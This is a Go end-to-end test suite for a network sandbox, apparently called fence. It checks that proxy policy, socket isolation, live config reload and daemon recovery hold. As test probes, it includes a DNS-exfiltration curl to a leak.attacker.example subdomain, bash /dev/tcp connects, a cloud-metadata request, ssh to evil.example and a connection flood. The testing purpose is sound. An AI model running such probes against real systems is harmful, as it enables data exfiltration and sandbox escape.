package e2e

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/fence-dev/fence/sandbox/sandboxtest"
)

// env is a sandboxtest environment with its own daemon runtime directory,
// so that each test has its own daemon, stopped at the end.
type env struct {
	*sandboxtest.Env
	rt string
}

func newEnv(t testing.TB, config string) *env {
	t.Helper()
	e := &env{Env: sandboxtest.New(t, config)}
	e.rt = filepath.Join(e.Base, "run")
	if err := os.Mkdir(e.rt, 0o700); err != nil {
		t.Fatal(err)
	}
	e.Vars = append(e.Vars, "XDG_RUNTIME_DIR="+e.rt, "FENCE_DAEMON_IDLE=5s")
	t.Cleanup(func() { e.fence("daemon", "stop") })
	return e
}

// fence runs the fence binary with args (no -s), in the project.
func (e *env) fence(args ...string) (string, error) {
	cmd := exec.Command(e.Fence, args...)
	cmd.Dir = e.Project
	cmd.Env = e.Vars
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// start starts `fence args...` in the background; stdout lines arrive on
// the returned channel.
func (e *env) start(t *testing.T, args ...string) (*exec.Cmd, chan string) {
	t.Helper()
	cmd := exec.Command(e.Fence, args...)
	cmd.Dir = e.Project
	cmd.Env = e.Vars
	cmd.Stderr = os.Stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	lines := make(chan string, 1000)
	go func() {
		sc := bufio.NewScanner(out)
		for sc.Scan() {
			lines <- sc.Text()
		}
		close(lines)
	}()
	t.Cleanup(func() {
		cmd.Process.Signal(syscall.SIGTERM)
		done := make(chan struct{})
		go func() { cmd.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			cmd.Process.Kill()
		}
	})
	return cmd, lines
}

type sessionInfo struct {
	ID   string `json:"id"`
	Dir  string `json:"dir"`
	Root string `json:"root"`
}

type daemonStatus struct {
	Running  bool          `json:"running"`
	PID      int           `json:"pid"`
	Dir      string        `json:"runtimeDir"`
	Sessions []sessionInfo `json:"sessions"`
}

func (e *env) status(t *testing.T) daemonStatus {
	t.Helper()
	out, err := e.fence("daemon", "status", "--json")
	if err != nil {
		t.Fatalf("daemon status: %v\n%s", err, out)
	}
	var st daemonStatus
	if err := json.Unmarshal([]byte(out), &st); err != nil {
		t.Fatalf("daemon status: %v\n%s", err, out)
	}
	return st
}

// waitSessions waits until the daemon has n sessions.
func (e *env) waitSessions(t *testing.T, n int) daemonStatus {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		st := e.status(t)
		if len(st.Sessions) == n {
			return st
		}
		if time.Now().After(deadline) {
			t.Fatalf("daemon has %d sessions, want %d", len(st.Sessions), n)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// web serves HTTP on host loopback and answers with the Host it got.
func web(t *testing.T) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "WEB-OK host=%s\n", r.Host)
	})}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
	return l.Addr().(*net.TCPAddr).Port
}

// echo serves a TCP echo on host loopback.
func echo(t *testing.T) int {
	t.Helper()
	return serveTCP(t, func(c net.Conn) { io.Copy(c, c) })
}

// serveTCP listens on host loopback, runs handle for each connection
// (closing it after), and returns the port.
func serveTCP(tb testing.TB, handle func(net.Conn)) int {
	tb.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() { handle(c); c.Close() }()
		}
	}()
	return l.Addr().(*net.TCPAddr).Port
}

// proxyGet sends one request to a session's HTTP proxy socket from the
// host, as the sandbox's relay would.
func proxyGet(dir, url string) (int, string, error) {
	c, err := net.DialTimeout("unix", filepath.Join(dir, "http.sock"), time.Second)
	if err != nil {
		return 0, "", err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", url)
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, "", err
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp.StatusCode, string(b), nil
}

func TestMain(m *testing.M) { os.Exit(m.Run()) }

// TestDirectEgress: without the proxy there is no route out, and the
// host's loopback is not the sandbox's (N-01, N-02, N-05, N-17). The same
// probes run without the sandbox reach the host server.
func TestDirectEgress(t *testing.T) {
	e := newEnv(t, "[network]\n")
	port := web(t)
	probe := fmt.Sprintf(`
python3 - <<'EOF'
import socket
for fam, kind, addr in [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", %[1]d)),
                        (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443)),
                        (socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700:4700::1111", 443))]:
    s = socket.socket(fam, kind)
    s.settimeout(3)
    try:
        s.connect(addr)
        print("CONNECTED", addr[0])
    except Exception as e:
        print("FAILED", addr[0], e)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"x", ("8.8.8.8", 53))
    print("SENT udp")
except Exception as e:
    print("FAILED udp", e)
EOF
bash -c 'exec 3<>/dev/tcp/127.0.0.1/%[1]d && echo CONNECTED bash' 2>/dev/null || echo FAILED bash
curl -s -m 3 --noproxy '*' http://127.0.0.1:%[1]d/ || echo FAILED curl
`, port)
	direct := e.Direct(probe)
	if !strings.Contains(direct.Stdout, "CONNECTED 127.0.0.1") || !strings.Contains(direct.Stdout, "WEB-OK") {
		t.Fatalf("control run without the sandbox did not reach the host server:\n%s", direct.Out())
	}
	r := e.Sh(probe)
	if strings.Contains(r.Stdout, "CONNECTED") || strings.Contains(r.Stdout, "SENT") || strings.Contains(r.Stdout, "WEB-OK") {
		t.Fatalf("direct egress from the sandbox:\n%s", r.Out())
	}
	if !strings.Contains(r.Stdout, "FAILED 1.1.1.1 [Errno 101]") {
		t.Errorf("want ENETUNREACH for 1.1.1.1:\n%s", r.Out())
	}
}

// TestProxyPolicy drives curl inside the sandbox through the real relay
// and daemon: allowed traffic works, and the §N/§P refusals hold.
func TestProxyPolicy(t *testing.T) {
	allowedPort := web(t)
	otherPort := web(t)
	echoPort := echo(t)
	e := newEnv(t, fmt.Sprintf(`
[network]
allowedDomains = ["allowed.example", "localhost:%d"]
allowLocalOutbound = [%d, %d]
`, allowedPort, allowedPort, echoPort))
	p, o := strconv.Itoa(allowedPort), strconv.Itoa(otherPort)
	cases := []struct {
		name   string
		script string
		want   string // regexp the output must match
	}{
		{"allowed via proxy", `curl -sS --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:` + p + `/`, `WEB-OK host=127.0.0.1:` + p},
		{"allowed via proxy, [::1] relay", `curl -sS --noproxy '' -x 'http://[::1]:3128' http://localhost:` + p + `/`, `WEB-OK host=localhost:` + p},
		{"allowed via SOCKS", `curl -sS --noproxy '' --socks5-hostname 127.0.0.1:1080 http://localhost:` + p + `/`, `WEB-OK`},
		{"not allowed: 403 and non-zero exit", `curl -sS -o /dev/null -w '%{http_connect}\n' https://not-allowed.example/; echo "exit=$?"`, `(?s)403.*exit=56`},
		{"P-09 allowed name, port 22", `curl -sS -o /dev/null -w '%{http_connect}\n' https://allowed.example:22/`, `403`},
		{"P-08 metadata", `curl -s -o /dev/null -w '%{http_code}\n' --noproxy '' -x http://127.0.0.1:3128 http://169.254.169.254/latest/meta-data/`, `^403`},
		{"P-07 mapped loopback", `curl -s -o /dev/null -w '%{http_code}\n' --noproxy '' -x http://127.0.0.1:3128 'http://[::ffff:127.0.0.1]:` + p + `/'`, `^403`},
		{"N-08 SOCKS denied name", `curl -s --socks5-hostname 127.0.0.1:1080 http://x.leak.attacker.example/; echo "exit=$?"`, `exit=97`},
		{"P-03 Host header rewritten", `printf 'GET http://127.0.0.1:` + p + `/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n' | curl -s telnet://127.0.0.1:3128 -m 3`, `WEB-OK host=127.0.0.1:` + p},
		{"P-04 origin form", `printf 'GET / HTTP/1.1\r\nHost: 127.0.0.1:` + p + `\r\nConnection: close\r\n\r\n' | curl -s telnet://127.0.0.1:3128 -m 3`, `^HTTP/1.1 400`},
		{"C-03 in-band session preamble", `printf 'FENCE-SESSION: other\r\nGET http://127.0.0.1:` + p + `/ HTTP/1.1\r\n\r\n' | curl -s telnet://127.0.0.1:3128 -m 3; echo`, `^HTTP/1.1 400`},
		{"proxy-connect allowed", `printf 'ping-through-socks\n' | "$FENCE_BIN" proxy-connect 127.0.0.1 ` + strconv.Itoa(echoPort), `ping-through-socks`},
		{"proxy-connect blocked", `"$FENCE_BIN" proxy-connect evil.example 22 </dev/null; echo "exit=$?" >&2`, `(?s)blocked by fence's network policy.*exit=1`},
	}
	for _, h := range []string{"127.0.0.1", "localhost", "127.0.0.2", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "127.1", "foo.localhost", "[64:ff9b::7f00:1]"} {
		cases = append(cases, struct {
			name, script, want string
		}{"N-18 " + h + " on an unlisted port", `curl -s -o /dev/null -w '%{http_code}\n' --noproxy '' -x http://127.0.0.1:3128 'http://` + h + `:` + o + `/'`, `^(403|400)`})
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := e.RunEnv([]string{"FENCE_BIN=" + e.Fence}, "--", "sh", "-c", c.script)
			if !regexp.MustCompile(`(?m)` + c.want).MatchString(r.Stdout + r.Stderr) {
				t.Errorf("want /%s/, got (exit %d):\n%s", c.want, r.Code, r.Out())
			}
		})
	}
	// Without the sandbox the loopback targets are reachable: the N-18
	// refusals above are the proxy's doing.
	d := e.Direct(`curl -s -m 3 http://127.0.0.1:` + o + `/`)
	if !strings.Contains(d.Stdout, "WEB-OK") {
		t.Fatalf("control run: %s", d.Out())
	}
}

// TestSOCKSNoDNSLeak runs the daemon under strace: a SOCKS or HTTP request
// for a denied name makes the daemon connect nowhere (no DNS query, no
// dial); an allowed request to a loopback server shows up in the same
// capture (so the capture can see the daemon's connections). Nothing here
// sends a packet off the machine.
func TestSOCKSNoDNSLeak(t *testing.T) {
	strace, err := exec.LookPath("strace")
	sandboxtest.Require(t, err == nil, "needs strace")
	port := web(t)
	e := newEnv(t, fmt.Sprintf("[network]\nallowLocalOutbound = [%d]\n", port))
	log := filepath.Join(e.Base, "strace.log")
	cmd := exec.Command(strace, "-f", "-qq", "-e", "trace=connect,sendto,sendmmsg", "-o", log, e.Fence, "daemon", "run")
	// No warm sandbox inits: they are the daemon's children, and strace
	// -f would capture the sandboxed commands' connections too.
	cmd.Env = append(e.Vars, "FENCE_WARM_INIT=0")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	deadline := time.Now().Add(10 * time.Second)
	for !e.status(t).Running {
		if time.Now().After(deadline) {
			t.Fatal("daemon under strace did not start")
		}
		time.Sleep(20 * time.Millisecond)
	}
	inetConnects := func() []string {
		b, _ := os.ReadFile(log)
		var out []string
		for _, l := range strings.Split(string(b), "\n") {
			if strings.Contains(l, "connect(") && (strings.Contains(l, "AF_INET") || strings.Contains(l, "htons(53)")) {
				out = append(out, l)
			}
		}
		return out
	}
	r := e.Sh(`curl -s --socks5-hostname 127.0.0.1:1080 "http://$(echo secret | base32 | tr -d =).leak.attacker.example/"; echo socks=$?
curl -s -o /dev/null -w '%{http_connect}\n' https://y.leak.attacker.example/; curl -s -o /dev/null -w '%{http_code}\n' http://z.leak.attacker.example/`)
	if !strings.Contains(r.Stdout, "socks=97") || !strings.Contains(r.Stdout, "403") {
		t.Fatalf("denied names were not refused:\n%s", r.Out())
	}
	time.Sleep(200 * time.Millisecond)
	if c := inetConnects(); len(c) != 0 {
		t.Fatalf("denied names made the daemon connect out (DNS or dial):\n%s", strings.Join(c, "\n"))
	}
	r = e.Sh(fmt.Sprintf(`curl -s -m 5 --noproxy '' --socks5-hostname 127.0.0.1:1080 http://localhost:%d/`, port))
	time.Sleep(200 * time.Millisecond)
	want := fmt.Sprintf("htons(%d)", port)
	var seen bool
	for _, l := range inetConnects() {
		seen = seen || strings.Contains(l, want)
	}
	if !strings.Contains(r.Stdout, "WEB-OK") || !seen {
		b, _ := os.ReadFile(log)
		t.Fatalf("control: the allowed request (%q) does not show in the capture:\n%.3000s", r.Out(), b)
	}
}

// TestSessionsAreSeparate: one session cannot reach another session's
// proxy sockets (C-04), though they exist on the host.
func TestSessionsAreSeparate(t *testing.T) {
	e := newEnv(t, "[network]\n")
	e.start(t, "-s", e.Config, "--", "sleep", "60")
	st := e.waitSessions(t, 1)
	other := filepath.Join(st.Sessions[0].Dir, "http.sock")
	probe := `python3 -c 'import socket,sys;s=socket.socket(socket.AF_UNIX);s.connect(sys.argv[1]);print("CONNECTED")' ` + other + ` 2>&1; ls ` + e.rt + `/fence 2>&1`
	if d := e.Direct(probe); !strings.Contains(d.Stdout, "CONNECTED") {
		t.Fatalf("control run could not connect to the other session's socket:\n%s", d.Out())
	}
	if r := e.Sh(probe); strings.Contains(r.Stdout, "CONNECTED") || strings.Contains(r.Stdout, "ctl.sock") {
		t.Fatalf("sandbox reached another session's socket or the runtime dir:\n%s", r.Out())
	}
}

// TestHostSockets: host unix sockets by path (in the runtime dir and in
// /tmp) and in the abstract namespace are out of reach (§U, N-14), and
// SSH_AUTH_SOCK does not pass (U-04).
func TestHostSockets(t *testing.T) {
	e := newEnv(t, "[network]\n")
	var lns []net.Listener
	listen := func(addr string) {
		l, err := net.Listen("unix", addr)
		if err != nil {
			t.Fatal(err)
		}
		lns = append(lns, l)
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				c.Write([]byte("HOST-SERVICE\n"))
				c.Close()
			}
		}()
	}
	defer func() {
		for _, l := range lns {
			l.Close()
		}
	}()
	tag := strconv.Itoa(os.Getpid())
	paths := []string{filepath.Join(e.rt, "docker.sock"), filepath.Join(e.rt, "bus"), "/tmp/fence-e2e-" + tag + ".sock"}
	for _, p := range paths {
		listen(p)
	}
	listen("@fence-e2e-" + tag)
	var probe strings.Builder
	for _, p := range append(paths, "\\0fence-e2e-"+tag) {
		fmt.Fprintf(&probe, "python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.connect(\"%s\");print(s.recv(64))' 2>&1 | grep -q HOST-SERVICE && echo REACHED %s\n", p, p)
	}
	probe.WriteString(`[ -n "$SSH_AUTH_SOCK" ] && echo SSH_AUTH_SOCK=$SSH_AUTH_SOCK; echo done`)
	extra := []string{"SSH_AUTH_SOCK=" + paths[0]}
	if d := e.exec(extra, "/bin/sh", "-c", probe.String()); strings.Count(d, "REACHED") != 4 {
		t.Fatalf("control run reached %d of 4 host sockets:\n%s", strings.Count(d, "REACHED"), d)
	}
	r := e.RunEnv(extra, "--", "sh", "-c", probe.String())
	if strings.Contains(r.Stdout, "REACHED") || strings.Contains(r.Stdout, "SSH_AUTH_SOCK=") || !strings.Contains(r.Stdout, "done") {
		t.Fatalf("host sockets reachable from the sandbox:\n%s", r.Out())
	}
}

func (e *env) exec(extra []string, name string, args ...string) string {
	cmd := exec.Command(name, args...)
	cmd.Dir = e.Project
	cmd.Env = append(append([]string{}, e.Vars...), extra...)
	out, _ := cmd.CombinedOutput()
	return string(out)
}

// writeConfig replaces the project config the way editors do (write a
// temporary file, rename it over).
func (e *env) writeConfig(t *testing.T, body string) time.Time {
	t.Helper()
	tmp := e.Config + ".tmp"
	if err := os.WriteFile(tmp, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, e.Config); err != nil {
		t.Fatal(err)
	}
	return time.Now()
}

// TestLiveReload edits a trusted .fence.toml while a session runs:
// tightening applies within 100 ms, loosening waits for `fence allow`, a
// broken edit keeps the policy and shows up in `fence monitor` (C-09,
// C-11, C-12).
func TestLiveReload(t *testing.T) {
	port := web(t)
	loose := fmt.Sprintf("[network]\nallowLocalOutbound = [%d]\n", port)
	e := newEnv(t, loose)
	if out, err := e.fence("allow"); err != nil {
		t.Fatalf("fence allow: %v\n%s", err, out)
	}
	_, mon := e.start(t, "monitor", "--json")
	e.start(t, "--", "sleep", "60")
	st := e.waitSessions(t, 1)
	dir := st.Sessions[0].Dir
	url := fmt.Sprintf("http://127.0.0.1:%d/", port)
	code := func() int { return proxyStatus(t, dir, url) }
	waitCode := func(want int, within time.Duration) time.Duration {
		t.Helper()
		t0 := time.Now()
		for {
			if c := code(); c == want {
				return time.Since(t0)
			}
			if time.Since(t0) > within {
				t.Fatalf("still not %d after %v", want, within)
			}
			time.Sleep(time.Millisecond)
		}
	}
	if c := code(); c != 200 {
		t.Fatalf("before: %d", c)
	}
	// Tighten, five times, and measure.
	var worst time.Duration
	for i := 0; i < 5; i++ {
		e.writeConfig(t, "[network]\n")
		worst = max(worst, waitCode(403, 2*time.Second))
		// Loosening back needs `fence allow` (the tightened version became
		// the trusted one).
		e.writeConfig(t, loose)
		time.Sleep(150 * time.Millisecond)
		if c := code(); c != 403 {
			t.Fatalf("loosening edit applied without fence allow: %d", c)
		}
		if out, err := e.fence("allow"); err != nil {
			t.Fatalf("fence allow: %v\n%s", err, out)
		}
		waitCode(200, 2*time.Second)
	}
	t.Logf("config edit to enforced network policy (tightening): worst of 5 = %v", worst)
	if worst > 100*time.Millisecond {
		t.Errorf("tightening took %v, want under 100ms", worst)
	}
	// A broken edit keeps the last good policy.
	e.writeConfig(t, "[network\nallowLocalOutbound = [1]\n")
	time.Sleep(200 * time.Millisecond)
	if c := code(); c != 200 {
		t.Fatalf("broken edit changed the policy: %d", c)
	}
	var sawError, sawPending, sawPolicy bool
	timeout := time.After(3 * time.Second)
	for !(sawError && sawPending && sawPolicy) {
		select {
		case line := <-mon:
			sawError = sawError || strings.Contains(line, `"kind":"config-error"`)
			// Said of the running session, which keeps its rules (it
			// used to say "running with your user policy only").
			sawPending = sawPending || strings.Contains(line, `"kind":"pending"`) && strings.Contains(line, "running sessions keep the policy they had")
			sawPolicy = sawPolicy || strings.Contains(line, `"kind":"policy"`)
		case <-timeout:
			t.Fatalf("monitor: config-error %v, pending %v, policy %v", sawError, sawPending, sawPolicy)
		}
	}
}

// TestDaemonKilled kills -9 the daemon while a session runs: requests fail
// (never allowed wrongly) until the session has started a new daemon, and
// then work again without restarting the session.
func TestDaemonKilled(t *testing.T) {
	port := web(t)
	e := newEnv(t, fmt.Sprintf("[network]\nallowLocalOutbound = [%d]\n", port))
	_, lines := e.start(t, "-s", e.Config, "--", "sh", "-c", fmt.Sprintf(
		`while :; do curl -s -m 2 -o /dev/null -w '%%{http_code}\n' --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:%d/; curl -s -m 2 -o /dev/null -w 'x%%{http_code}\n' --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.2:%d/; sleep 0.05; done`, port, port))
	next := func() string {
		select {
		case l, ok := <-lines:
			if !ok {
				t.Fatal("session ended")
			}
			return l
		case <-time.After(20 * time.Second):
			t.Fatal("no output from the session")
		}
		return ""
	}
	for next() != "200" {
	}
	st := e.status(t)
	// A session gets a record (what a restarted daemon restores it from)
	// once it has run for a moment.
	for _, s := range st.Sessions {
		deadline := time.Now().Add(5 * time.Second)
		for {
			if _, err := os.Stat(filepath.Join(st.Dir, "records", s.ID+".json")); err == nil {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("session %s: no record", s.ID)
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	syscall.Kill(st.PID, syscall.SIGKILL)
	// Answers from before the kill may still be queued: a 200 counts as
	// recovered only after a failure, or from a new daemon.
	var failed bool
	deadline := time.Now().Add(15 * time.Second)
	for {
		l := next()
		switch l {
		case "200":
			if cur := e.status(t); failed || (cur.Running && cur.PID != st.PID) {
				goto recovered
			}
		case "x403", "x000":
		default:
			if l != "000" && l != "502" {
				t.Fatalf("unexpected answer during the outage: %q", l)
			}
			failed = true
		}
		if time.Now().After(deadline) {
			t.Fatal("the session did not get its network back")
		}
	}
recovered:
	if st2 := e.status(t); st2.PID == st.PID || len(st2.Sessions) != 1 || st2.Sessions[0].ID != st.Sessions[0].ID {
		t.Fatalf("after the restart: %+v (before: %+v)", st2, st)
	}
}

// TestGitSSHThroughSOCKS: inside a sandbox, GIT_SSH_COMMAND takes ssh
// through `fence proxy-connect` and the SOCKS proxy: an allowed host:port
// is reached by name, a refused one is not.
func TestGitSSHThroughSOCKS(t *testing.T) {
	_, err := exec.LookPath("ssh")
	sandboxtest.Require(t, err == nil, "needs ssh")
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	banners := make(chan string, 4)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			io.WriteString(c, "SSH-2.0-fence-test\r\n")
			c.SetReadDeadline(time.Now().Add(5 * time.Second))
			line, _ := bufio.NewReader(c).ReadString('\n')
			banners <- line
			c.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	e := newEnv(t, fmt.Sprintf("[network]\nallowedDomains = [\"localhost:%d\"]\nallowLocalOutbound = [%d]\n", port, port))
	opts := `-o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5`
	r := e.Sh(fmt.Sprintf(`case "$GIT_SSH_COMMAND" in *proxy-connect*) ;; *) echo "GIT_SSH_COMMAND=$GIT_SSH_COMMAND"; exit 9;; esac
eval "$GIT_SSH_COMMAND %s -p %d git@localhost true"; echo "exit=$?"`, opts, port))
	select {
	case b := <-banners:
		if !strings.HasPrefix(b, "SSH-2.0-") {
			t.Fatalf("the test server got %q, not an ssh banner:\n%s", b, r.Out())
		}
	case <-time.After(10 * time.Second):
		t.Fatalf("ssh never reached the allowed server:\n%s", r.Out())
	}
	r = e.Sh(fmt.Sprintf(`eval "$GIT_SSH_COMMAND %s -p 22 git@evil.example true"; echo "exit=$?"`, opts))
	if !strings.Contains(r.Out(), "evil.example:22: blocked by fence's network policy") || !strings.Contains(r.Stdout, "exit=255") {
		t.Fatalf("ssh to a refused host:\n%s", r.Out())
	}
}

// TestLocalOutboundLive: a connection the command makes straight to an
// allowLocalOutbound port (no proxy variables) is decided like a proxied
// one, with the session's live policy: a deniedDomains entry for the
// host's loopback wins, and a port a config edit takes out is refused to
// new connections. Red team of the eleventh session: the client dialed
// the port directly with the list fixed when the session started.
func TestLocalOutboundLive(t *testing.T) {
	port := web(t)
	loose := fmt.Sprintf("[network]\nallowLocalOutbound = [%d]\n", port)
	e := newEnv(t, loose)
	direct := fmt.Sprintf(`curl -s -m 3 -o /dev/null -w 'code=%%{http_code}\n' --noproxy '*' http://127.0.0.1:%d/`, port)
	if r := e.Sh(direct); !strings.Contains(r.Stdout, "code=200") {
		t.Fatalf("control: the allowed port is not reachable directly:\n%s", r.Out())
	}
	e.writeConfig(t, loose+"deniedDomains = [\"127.0.0.1\"]\n")
	if r := e.Sh(direct); strings.Contains(r.Stdout, "code=200") {
		t.Errorf("a deniedDomains entry for 127.0.0.1 did not stop a direct connection:\n%s", r.Out())
	}

	e.writeConfig(t, loose)
	if out, err := e.fence("allow"); err != nil {
		t.Fatalf("fence allow: %v\n%s", err, out)
	}
	_, lines := e.start(t, "--", "sh", "-c", "while :; do "+direct+"; sleep 0.1; done")
	next := func(within time.Duration) string {
		select {
		case l := <-lines:
			return l
		case <-time.After(within):
			t.Fatalf("no answer within %v", within)
			return ""
		}
	}
	if l := next(10 * time.Second); l != "code=200" {
		t.Fatalf("before the edit: %s", l)
	}
	e.writeConfig(t, "[network]\n")
	deadline := time.Now().Add(3 * time.Second)
	for l := next(5 * time.Second); l != "code=000"; l = next(5 * time.Second) {
		if time.Now().After(deadline) {
			t.Fatalf("the port taken out of allowLocalOutbound is still reached directly 3 s after the edit (%s)", l)
		}
	}
}

// TestLiveReloadLinkedConfig: a .fence.toml that is a symbolic link to a
// file elsewhere (a dotfiles checkout) is reloaded when the file it leads
// to is edited there: a tightening applies to the running session. Red
// team of the eleventh session: the daemon watched the link's directory
// alone, and the edit waited for an unrelated event.
func TestLiveReloadLinkedConfig(t *testing.T) {
	port := web(t)
	loose := fmt.Sprintf("[network]\nallowLocalOutbound = [%d]\n", port)
	e := newEnv(t, loose)
	target := filepath.Join(e.Base, "dotfiles", "fence.toml")
	if err := os.MkdirAll(filepath.Dir(target), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(e.Config, target); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, e.Config); err != nil {
		t.Fatal(err)
	}
	if out, err := e.fence("allow"); err != nil {
		t.Fatalf("fence allow: %v\n%s", err, out)
	}
	e.start(t, "--", "sleep", "60")
	dir := e.waitSessions(t, 1).Sessions[0].Dir
	url := fmt.Sprintf("http://127.0.0.1:%d/", port)
	code := func() int { return proxyStatus(t, dir, url) }
	if c := code(); c != 200 {
		t.Fatalf("before the edit: %d", c)
	}
	// The edit as an editor makes it, in the target's directory.
	tmp := target + ".tmp"
	if err := os.WriteFile(tmp, []byte("[network]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, target); err != nil {
		t.Fatal(err)
	}
	for t0 := time.Now(); code() != 403; time.Sleep(10 * time.Millisecond) {
		if time.Since(t0) > 2*time.Second {
			t.Fatal("the tightened linked config was not applied within 2 s")
		}
	}
}

// TestIdleUpstreamFlood: a sandbox that names a new host with each plain
// HTTP request (every *.localhost name is a target of its own), all over
// one connection, does not grow the daemon's descriptors: the session
// keeps at most a few dozen idle upstream connections. Each request left
// one open, and 20,000 of them took the daemon's last descriptor, which
// ended it and every other session's network.
func TestIdleUpstreamFlood(t *testing.T) {
	const n = 2000
	var open atomic.Int64
	port := serveTCP(t, func(c net.Conn) {
		open.Add(1)
		defer open.Add(-1)
		br := bufio.NewReader(c)
		for {
			req, err := http.ReadRequest(br)
			if err != nil {
				return
			}
			req.Body.Close()
			if _, err := io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n"); err != nil {
				return
			}
		}
	})
	e := newEnv(t, fmt.Sprintf("[network]\nallowLocalOutbound = [%d]\n", port))
	e.start(t, "-s", e.Config, "--", "sleep", "60")
	st := e.waitSessions(t, 1)
	other := st.Sessions[0]
	fds := func() int {
		ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", st.PID))
		if err != nil {
			t.Fatalf("daemon's descriptors: %v", err)
		}
		return len(ents)
	}
	before := fds()
	_, lines := e.start(t, "-s", e.Config, "--", "python3", "-c", fmt.Sprintf(`
import socket, time
s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(10)
ok = 0
for i in range(%d):
    s.sendall(b"GET http://n%%d.localhost:%d/ HTTP/1.1\r\nHost: x\r\n\r\n" %% i)
    buf = b""
    while not buf.endswith(b"ok\n") and b"fence" not in buf:
        d = s.recv(4096)
        if not d: break
        buf += d
    if not buf.startswith(b"HTTP/1.1 200"):
        print("FAILED at", i, buf[:200]); break
    ok += 1
print("DONE", ok, flush=True)
time.sleep(60)
`, n, port))
	select {
	case l := <-lines:
		if l != fmt.Sprintf("DONE %d", n) {
			t.Fatalf("flood: %q", l)
		}
	case <-time.After(60 * time.Second):
		t.Fatal("flood: no answer in 60 s")
	}
	if got := fds() - before; got > 100 {
		t.Errorf("the daemon holds %d more descriptors after %d requests to distinct names, want a few dozen at most", got, n)
	}
	if got := open.Load(); got > 40 {
		t.Errorf("%d upstream connections left open after %d requests to distinct names, want at most 33", got, n)
	}
	if code, _, err := proxyGet(other.Dir, fmt.Sprintf("http://127.0.0.1:%d/", port)); err != nil || code != 200 {
		t.Errorf("the other session after the flood: %d %v", code, err)
	}
}

// proxyStatus is the status of a GET of url through the session whose
// directory is dir.
func proxyStatus(t *testing.T, dir, url string) int {
	t.Helper()
	c, _, err := proxyGet(dir, url)
	if err != nil {
		t.Fatalf("proxy: %v", err)
	}
	return c
}
